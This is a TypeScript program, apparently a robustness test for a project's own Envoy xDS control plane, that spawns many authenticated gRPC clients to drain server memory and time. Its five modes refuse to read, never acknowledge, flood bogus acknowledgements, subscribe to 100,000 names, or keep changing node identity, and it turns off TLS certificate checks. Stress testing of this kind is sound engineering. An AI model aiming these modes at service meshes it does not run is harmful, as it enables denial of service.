// Proxies that mean harm, as a program of its own: `node hostile-proxy.ts <kind> <count> <url> <token>`. Each kind is one way to cost the control
// plane memory or time; all begin as an honest proxy does, with a valid token.
import { type ClientHttp2Session, type ClientHttp2Stream, connect } from 'node:http2';
import { create, type MessageInitShape, toBinary } from '@bufbuild/protobuf';
import { typeUrls } from '@ursa/envoy';
import { DeltaDiscoveryRequestSchema } from '../../packages/envoy/gen/envoy/service/discovery/v3/discovery_pb.ts';

type Request = MessageInitShape<typeof DeltaDiscoveryRequestSchema>;

const [kind = '', count = '0', url = '', token = ''] = process.argv.slice(2);
const path = '/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources';

function frameOf(request: Request): Buffer {
  const message = toBinary(DeltaDiscoveryRequestSchema, create(DeltaDiscoveryRequestSchema, request));
  const frame = Buffer.alloc(5 + message.length);
  frame.writeUInt32BE(message.length, 1);
  frame.set(message, 5);
  return frame;
}

function nodeOf(name: string): NonNullable<Request['node']> {
  const inbound = [{ port: 9080, tags: { 'kuma.io/service': 'hostile', 'kuma.io/protocol': 'http' } }];
  // It calls what all change all the time, so that it has something to be sent.
  const outbound = [{ port: 10_000, tags: { 'kuma.io/service': 'backend' } }];
  const resource = {
    type: 'Dataplane',
    mesh: 'default',
    name,
    networking: { address: '10.97.0.1', inbound, outbound },
  };
  return {
    id: `default.${name}`,
    cluster: name,
    metadata: { 'dataplane.resource': JSON.stringify(resource), 'dataplane.proxyType': 'dataplane' },
  };
}

interface Attack {
  readonly initialWindowSize?: number;
  /** What is done on the stream, again and again until it is closed. */
  act(stream: ClientHttp2Stream, name: string): void;
  readonly every: number;
}

const wanted = typeUrls.endpoint;
const attacks: Readonly<Record<string, Attack>> = {
  'never reads': { initialWindowSize: 0, act: () => undefined, every: 1000 },
  'never acknowledges': { act: () => undefined, every: 1000 },
  'floods with acknowledgements': {
    act(stream) {
      const frame = frameOf({ typeUrl: typeUrls.cluster, responseNonce: 'no such nonce' });
      for (let number = 0; number < 50 && stream.writableLength < 1 << 20; number += 1) stream.write(frame);
    },
    every: 10,
  },
  'subscribes to 100,000 names': {
    act(stream) {
      if (stream.writableLength > 4 << 20) return;
      const names = Array.from({ length: 100_000 }, (_, index) => `name-${index}`);
      stream.write(frameOf({ typeUrl: wanted, resourceNamesSubscribe: names }));
    },
    every: 1000,
  },
  'changes its node': {
    act: (stream, name) => void stream.write(frameOf({ node: nodeOf(`${name}-other`), typeUrl: typeUrls.listener })),
    every: 100,
  },
};

const attack = attacks[kind];
if (attack === undefined) throw new Error(`no attack "${kind}"`);

function run(index: number, { initialWindowSize, act, every }: Attack): void {
  const name = `hostile-${kind.replaceAll(/[^a-z]+/g, '-')}-${index}`;
  const settings = initialWindowSize === undefined ? {} : { initialWindowSize };
  const session: ClientHttp2Session = connect(url, { rejectUnauthorized: false, settings });
  let timer: NodeJS.Timeout | undefined;
  session.on('error', () => undefined);
  session.once('close', () => {
    clearInterval(timer);
    setTimeout(
      () => run(index, { act, every, ...(initialWindowSize === undefined ? {} : { initialWindowSize }) }),
      200,
    );
  });
  session.once('connect', () => {
    const stream = session.request({
      ':method': 'POST',
      ':path': path,
      'content-type': 'application/grpc',
      te: 'trailers',
      authorization: token,
    });
    stream.on('error', () => undefined);
    stream.on('close', () => session.destroy());
    stream.on('data', () => undefined);
    stream.write(frameOf({ node: nodeOf(name), typeUrl: typeUrls.cluster }));
    timer = setInterval(() => {
      if (!stream.destroyed) act(stream, name);
    }, every);
  });
}

for (let index = 0; index < Number(count); index += 1) run(index, attack);
